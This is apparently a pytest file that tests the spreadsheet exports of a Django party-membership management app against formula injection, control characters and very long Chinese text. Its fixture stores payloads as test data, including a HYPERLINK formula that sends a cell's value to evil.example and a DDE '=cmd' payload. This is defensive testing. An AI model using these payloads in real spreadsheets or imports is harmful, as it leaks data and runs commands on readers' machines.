"""Every export of the product, with hostile stored values: formula-like names, control characters and very
long Chinese text. No export fails, no cell is a formula, and each .xlsx has its title, frozen header and
print setup (issues 8 and 9)."""

import datetime as dt
import io
import re
import shutil
import subprocess
from collections import Counter
from pathlib import Path

import pytest
from django.utils import timezone
from docx import Document as Word
from openpyxl import load_workbook

from dangjian.core import xlsx
from dangjian.discipline.models import Sanction
from dangjian.evaluations import documents
from dangjian.evaluations.models import Campaign, Decision, Disposal, SelfEvaluation
from dangjian.members.models import Member
from dangjian.orgs.models import Organisation
from dangjian.supervision.models import Round
from dangjian.talks.models import Talk

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&B4,"点击")'  # fits the 50 characters of a name
LONG = "党员应当认真学习党的理论，" * 80  # 1,040 characters, a long 谈话 record
YEAR = timezone.localdate().year
# Every .xlsx export: (url, role, what the title row says, a value that must be in the sheet)
XLSX = {
    "members": ("/members/?format=xlsx", "office", "党员名册", FORMULA_NAME),
    "members_full": ("/members/?format=xlsx&full=1", "secretary_a", "党员名册（含完整证件号", FORMULA_NAME),
    "orgs": ("/orgs/?format=xlsx", "office", "党组织名单", "甲村党支部"),
    "compliance": (f"/compliance/?org=TOWN&year={YEAR}&format=xlsx", "office", "组织生活合规矩阵", "BRA"),
    "talks": (f"/talks/org/BRA/?year={YEAR}&format=xlsx", "secretary_a", "谈心谈话记录", LONG),
    "discipline": (f"/discipline/?org=BRA&year={YEAR}&format=xlsx", "office", "违纪党员清单", FORMULA_NAME),
    "unqualified": ("/evaluations/unqualified/?format=xlsx", "office", "不合格党员及处置情况", FORMULA_NAME),
    "excellent_doc": ("{campaign}excellent.xlsx", "secretary_a", "优秀党员名单", "甲1"),
    "unqualified_doc": ("{campaign}unqualified.xlsx", "secretary_a", "不合格党员名单及处置措施", LONG),
    "supervision": ("/supervision/rounds/{round}/findings.xlsx", "office", "督查发现", FORMULA_NAME),
    "member_record": ("/education/member/{member}/record/?format=xlsx", "office", "组织生活记录", "=1+1"),
    "dues_ledger": (f"/dues/org/BRA/ledger.xlsx?year={YEAR}", "secretary_a", "党费交纳台帐", FORMULA_NAME),
    "dues_summary": (f"/dues/summary/?year={YEAR}&format=xlsx", "office", "党费收缴汇总", "乙企业党支部"),
    "assessment": (f"/assessment/?year={YEAR}&format=xlsx", "office", f"{YEAR}年度党支部考核表", "BRA"),
}
# The modules that write .xlsx exports; a new one must be added to XLSX above.
WRITERS = {
    "members/views.py",
    "orgs/views.py",
    "compliance/views.py",
    "talks/views.py",
    "discipline/views.py",
    "evaluations/views.py",
    "evaluations/documents.py",
    "supervision/rounds/documents.py",
    "education/views.py",
    "dues/documents.py",
    "assessment/views.py",
}


@pytest.fixture
def hostile(world):
    """Branch A's stored data as an attacker or a careless import left it, bypassing input validation."""
    a = world.members_a
    Organisation.objects.filter(pk=world.branch_a.pk).update(name="甲村\x0b党支部")
    Member.objects.filter(pk=a[2].pk).update(name=FORMULA_NAME, work_unit="+8613800000000\x1b")
    Member.objects.filter(pk=a[3].pk).update(name="甲\x1b三", work_unit="@SUM(A1:A9)")
    Member.objects.filter(pk=a[5].pk).update(work_unit="-2+3\t\r")
    day = timezone.localdate() - dt.timedelta(days=3)
    Talk.objects.create(
        org=world.branch_a, initiator=a[0], partner=a[2], talked_on=day, topics=LONG, opinions="\x13\x0b意见"
    )
    Sanction.objects.create(
        member=a[2], level="probation_1", decided_on=day, decided_by="=1+1", facts="违纪\x13事实\x0b" + LONG
    )
    from tests.evaluations.helpers import open_campaign

    campaign = open_campaign(world)
    SelfEvaluation.objects.create(
        campaign=campaign, member=a[3], study="学习\x13党章\x0b" + LONG, submitted_on=day
    )
    decided = {
        grade: Decision.objects.create(
            campaign=campaign, member=member, grade=grade, decided_on=day, reason="=cmd|' /C calc'!A0"
        )
        for member, grade in ((a[1], "excellent"), (a[2], "unqualified"), (a[3], "qualified"))
    }
    Disposal.objects.create(decision=decided["unqualified"], measure="correct", deadline=day, notes=LONG)
    Campaign.objects.filter(pk=campaign.pk).update(status=Campaign.Status.DECIDED)
    from tests.supervision.rounds_helpers import find

    for rule, notes in (("theme_day", FORMULA_NAME), ("party_lecture", "照片\x13重复\x0b" + LONG)):
        finding = find(world, rule, "nonconforming")
        type(finding).objects.filter(pk=finding.pk).update(notes=notes)
    return f"/evaluations/{campaign.pk}/export/"


def _get(client_for, hostile, name):
    url, role, _, _ = XLSX[name]
    rounds = Round.objects.values_list("pk", flat=True)
    member = Member.objects.filter(name=FORMULA_NAME).values_list("pk", flat=True).first()
    response = client_for(role).get(url.format(campaign=hostile, round=rounds.last(), member=member))
    assert response.status_code == 200, (name, response.status_code)
    assert response["Content-Type"] == xlsx.XLSX_TYPE
    return response.content


@pytest.mark.parametrize("name", XLSX)
def test_every_xlsx_export_is_safe_and_ready_to_print(name, hostile, client_for):
    content = _get(client_for, hostile, name)
    sheet = load_workbook(io.BytesIO(content)).active
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert b"<f>" not in _sheet_xml(content)
    _, _, title, value = XLSX[name]
    assert sheet["A1"].value.startswith(title) and sheet["A1"].font.b
    assert "导出时间：" in sheet["A2"].value
    values = [c.value for row in sheet.iter_rows(min_row=xlsx.TITLE_ROWS + 1) for c in row]
    assert value in values
    risky = [v for v in values if isinstance(v, str) and v[:1] in "=+-@\t\r"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row}
    assert all(cells[v].quotePrefix for v in risky)  # and stays text when someone edits the cell
    assert not any(isinstance(v, str) and re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", v) for v in values)
    assert sheet.freeze_panes == f"A{xlsx.TITLE_ROWS + 2}"
    assert sheet.print_title_rows == f"$1:${xlsx.TITLE_ROWS + 1}"
    setup = sheet.page_setup
    assert (setup.orientation, setup.paperSize) == ("landscape", 9)  # A4
    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_formulas_and_control_characters_are_written_as_plain_text(hostile, client_for):
    sheet = load_workbook(io.BytesIO(_get(client_for, hostile, "members"))).active
    rows = {r[0]: r for r in sheet.iter_rows(min_row=xlsx.TITLE_ROWS + 2, values_only=True)}
    assert rows[FORMULA_NAME][7] == "+8613800000000"  # the \x1b dropped
    assert rows["甲三"][7] == "@SUM(A1:A9)"
    assert "甲村党支部" in sheet["A2"].value or "测试镇党委" in sheet["A2"].value


def test_dates_are_dates_in_chinese_format(hostile, client_for, world):
    sheet = load_workbook(io.BytesIO(_get(client_for, hostile, "members"))).active
    header = [c.value for c in sheet[xlsx.TITLE_ROWS + 1]]
    joined = sheet.cell(row=xlsx.TITLE_ROWS + 2, column=header.index("入党日期") + 1)
    assert isinstance(joined.value, dt.datetime) and joined.number_format == xlsx.DATE_FORMAT
    talks = load_workbook(io.BytesIO(_get(client_for, hostile, "talks"))).active
    header = [c.value for c in talks[xlsx.TITLE_ROWS + 1]]
    created = talks.cell(row=xlsx.TITLE_ROWS + 2, column=header.index("录入时间") + 1)
    talk = Talk.objects.get()
    assert created.number_format == xlsx.DATETIME_FORMAT
    assert created.value == timezone.localtime(talk.created_at).replace(tzinfo=None, microsecond=0)


def test_member_export_survives_an_escape_character_for_everyone(hostile, client_for):
    """Seen: one \\x1b in a name made the town's member export answer 500 for every role."""
    for role in ("office", "oversight", "secretary_a", "instructor_a"):
        assert client_for(role).get("/members/", {"format": "xlsx"}).status_code == 200, role


@pytest.mark.parametrize(
    "doc,fmt",
    [(doc, fmt) for doc, (_, formats) in documents.BUILDERS.items() for fmt in formats],
)
def test_every_evaluation_document_survives_control_characters(doc, fmt, hostile, client_for):
    response = client_for("secretary_a").get(f"{hostile}{doc}.{fmt}")
    assert response.status_code == 200
    if fmt == "docx":
        word = Word(io.BytesIO(response.content))
        text = "".join(c.text for t in word.tables for row in t.rows for c in row.cells)
        assert "\x13" not in text and "\x0b" not in text
        if doc == "self":
            assert "学习党章" in text


def test_the_full_register_still_imports(hostile, client_for, world):
    """The full-number register is documented as an import file: its title rows are skipped."""
    Member.objects.filter(pk=world.members_a[2].pk).update(name="甲二")
    content = _get(client_for, hostile, "members_full")
    response = client_for("secretary_a").post("/members/import/", {"file": _upload(content)}, follow=True)
    page = response.content.decode()
    assert response.status_code == 200 and "第1行" not in page and "缺少必填列" not in page, page[:3000]


def _upload(content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("名册.xlsx", content, content_type="application/octet-stream")


def test_one_writer_for_every_export():
    root = Path(xlsx.__file__).parent.parent
    writers = {
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "workbook_bytes(" in p.read_text() and p.name != "xlsx.py"
    }
    assert writers == WRITERS, "a new .xlsx export: add it to XLSX in this test"
    own = [p for p in root.rglob("*.py") if re.search(r"\bWorkbook\(", p.read_text()) and p.name != "xlsx.py"]
    assert own == [], "write .xlsx through dangjian.core.xlsx.workbook_bytes"


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.skipif(
    not (shutil.which("soffice") and shutil.which("pdftotext")),
    reason="未安装 LibreOffice 或 poppler：apt-get install libreoffice-calc-nogui poppler-utils",
)
def test_every_xlsx_export_prints_whole_in_libreoffice(hostile, client_for, tmp_path):
    """Each export converted to PDF by LibreOffice: no "###" for a too narrow column, and every text of the
    sheet is on the page in full, not cut at its cell's edge."""
    for name in XLSX:
        (tmp_path / f"{name}.xlsx").write_bytes(_get(client_for, hostile, name))
    files = sorted(str(p) for p in tmp_path.glob("*.xlsx"))
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", profile, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), *files]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    for name in XLSX:
        pdf = tmp_path / f"{name}.pdf"
        text = subprocess.run(["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
        assert "###" not in text, name
        # Every character of every cell is printed (wrapped lines may come in any order in the PDF's text).
        printed = Counter(re.sub(r"\s", "", text))
        sheet = load_workbook(tmp_path / f"{name}.xlsx").active
        cells = [v for row in sheet.iter_rows(values_only=True) for v in row if isinstance(v, str)]
        missing = Counter(re.sub(r"\s", "", "".join(cells))) - printed
        assert not missing, (name, missing)
        if FORMULA_NAME in cells:
            assert FORMULA_NAME in text  # shown as typed, not evaluated to a link
